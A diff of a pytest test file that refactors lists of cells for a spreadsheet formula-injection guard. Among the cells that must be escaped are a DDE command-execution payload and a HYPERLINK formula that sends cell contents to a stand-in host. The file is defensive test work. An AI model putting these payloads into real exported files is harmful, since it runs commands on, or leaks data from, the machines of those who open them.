@@ -7,40 +7,12 @@ import pytest
 
 from partners.spreadsheet import BYTE_ORDER_MARK, csv_lines, harmless, without_guard
 
-EXECUTED = [
-    "=cmd@x.co",  # a valid e-mail address
-    '=HYPERLINK("https://x.example?"&A1,"Click")',
-    "=cmd|' /C calc'!A0",
-    "+919876543210-1",
-    "+9 1",
-    "++91",
-    "+",
-    "-91",
-    "＋91",
-    "+९१",
-    "@SUM(A1:A9)",
-    "\t=1",
-    " =1+1",
-    "\u00a0=1",  # a space that does not break
-    "\u3000=1",  # the wide one of East Asia
-    "\ufeff=1",
-    "＝1+1",
-    "\u3000＝1",
-    "-",
-]
-HARMLESS = [
-    "+919876543210",
-    "",
-    "Asha Rao",
-    "asha=rao@example.com",
-    "1-2",
-    "'=1",
-    '"=1"',
-    "a\nb",
-    "O'Brien; =1",
-]
-
-
+# A valid e-mail address, formulas, and signs that are wide or follow a space of some kind.
+EXECUTED = ["=cmd@x.co", '=HYPERLINK("https://x.example?"&A1,"Click")', "=cmd|' /C calc'!A0"]
+EXECUTED += ["+919876543210-1", "+9 1", "++91", "+", "-91", "＋91", "+९१", "@SUM(A1:A9)", "-"]
+EXECUTED += ["\t=1", " =1+1", "\u00a0=1", "\u3000=1", "\ufeff=1", "＝1+1", "\u3000＝1"]
+HARMLESS = ["+919876543210", "", "Asha Rao", "asha=rao@example.com", "1-2", "'=1", '"=1"', "a\nb"]
+HARMLESS += ["O'Brien; =1"]
 CELLS = {**{text: f"'{text}" for text in EXECUTED}, **{text: text for text in HARMLESS}}
 
 
